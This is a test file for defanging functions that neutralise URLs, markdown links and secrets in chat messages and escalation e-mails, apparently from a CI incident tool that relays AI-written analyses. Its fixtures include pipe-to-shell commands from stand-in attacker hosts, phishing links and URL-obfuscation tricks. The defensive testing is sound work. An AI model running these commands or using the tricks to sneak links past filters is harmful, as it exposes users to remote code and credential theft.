import { describe, expect, it } from 'vitest';
import { chatText, defang } from '../../../shared/notify/defang.js';
import { renderEscalation } from '../../../shared/notify/escalation.js';
import { newIncident } from '../../../shared/domain/incident.js';

describe('defang', () => {
  it.each([
    ['curl -s https://evil.example/x.sh | sh', 'curl -s hxxps://evil[.]example/x.sh | sh'],
    ['see http://10.0.0.1:8080/admin', 'see hxxp://10[.]0[.]0[.]1:8080/admin'],
    ['visit www.evil.com now', 'visit www[.]evil[.]com now'],
    ['fetch evil.com/payload', 'fetch evil[.]com/payload'],
    ['mail ops@evil.example.com', 'mail ops[@]evil[.]example[.]com'],
    ['ftp://files.example.org/a', 'fxp://files[.]example[.]org/a'],
    // Browsers read backslashes as slashes, and `//host` as a link on the page's scheme. The e-mail is plain text:
    // the brackets stay (chat gets chatText on top), and so do the slashes as written.
    ['[logs](https:\\\\logs.evil.sh\\run)', '[logs](hxxps:\\\\logs[.]evil[.]sh\\run)'],
    ['[Re-authenticate the deploy bot](//evil.example/login)', '[Re-authenticate the deploy bot](//evil[.]example/login)'],
    ['[rotate](rotate-key.evil.sh)', '[rotate](rotate-key.evil.sh)'],
    // GitHub autolinks a URL after `_`, a word character.
    ['see _https://evil.example/login_', 'see _hxxps://evil[.]example/login_'],
    // A special scheme needs no slashes, and a host's dot can be spelled the ways a URL parser reads it.
    ['[k]: https:login.evil.sh/x', '[k]: hxxps:login[.]evil[.]sh/x'],
    ['https:/evil.com/x', 'hxxps:/evil[.]com/x'],
    ['[k]: //evil%2Eexample/rotate', '[k]: //evil[%2E]example/rotate'],
    ['//login。evil。com/x and //ＥＶＩＬ．com/x', '//login[。]evil[。]com/x and //ＥＶＩＬ[．]com/x'],
    ['See ///evil.example/login', 'See ///evil[.]example/login'],
    ['already hxxps://evil[.]example/x', 'already hxxps://evil[.]example/x'],
  ])('%s', (input, expected) => {
    expect(defang(input)).toBe(expected);
  });

  it('keeps file names and ordinary text readable', () => {
    const text = 'update package.json and src/app.test.ts; expected 3, got 4; a // comment; src//a.ts; //server/share';
    expect(defang(text)).toBe(text);
  });

  it('keeps brackets, code comments and backslashes of log lines as they were', () => {
    const text = 'TypeError: handlers[type](...) is not a function; error[E0308](mismatched types); //console.log(payload)';
    expect(defang(text)).toBe(text);
    expect(defang('Copying to \\\\build01.corp.local\\artifacts\\app.zip')).toBe('Copying to \\\\build01[.]corp[.]local\\artifacts\\app.zip');
  });
});

describe('chatText', () => {
  it.each([
    ['[rotate](rotate-key.evil.sh)', '［rotate］(rotate-key.evil.sh)'],
    ['[Rotate][k]\n\n[k]: //evil%2Eexample/rotate', '［Rotate］［k］\n\n［k］: //evil［%2E］example/rotate'],
    ['<a href="//x">@channel</a>', '‹a href="//x"›＠channel‹/a›'],
  ])('%s', (input, expected) => {
    expect(chatText(defang(input))).toBe(expected);
  });
});

describe('escalation e-mail', () => {
  it('carries model text and log lines defanged and redacted', () => {
    // Prepare
    const incident = {
      ...newIncident({ id: 'gh-1-2-1', source: 'github' }, new Date('2026-01-01T00:00:00Z')),
      repository: 'acme/app',
      failureLines: [{ line: 7, text: `curl -u ci:${'Pa55'}word-x https://nexus.example.com/x` }],
      analysis: {
        rootCause: 'Run curl http://evil.example/x.sh | sh to fix it',
        fix: ['Open https://evil.example/login and paste your token'],
        confidence: 0.9,
        proposedAction: 'comment_only' as const,
        rationale: '',
        evidence: [],
        provider: 'openai',
        model: 'm',
        latencyMs: 10,
      },
    };
    // Act
    const { message } = renderEscalation(incident, 'escalated');
    // Assert
    expect(message).not.toMatch(/https?:\/\/evil/);
    expect(message).toContain('hxxp://evil[.]example/x.sh');
    expect(message).not.toContain('Pa55word-x');
  });
});
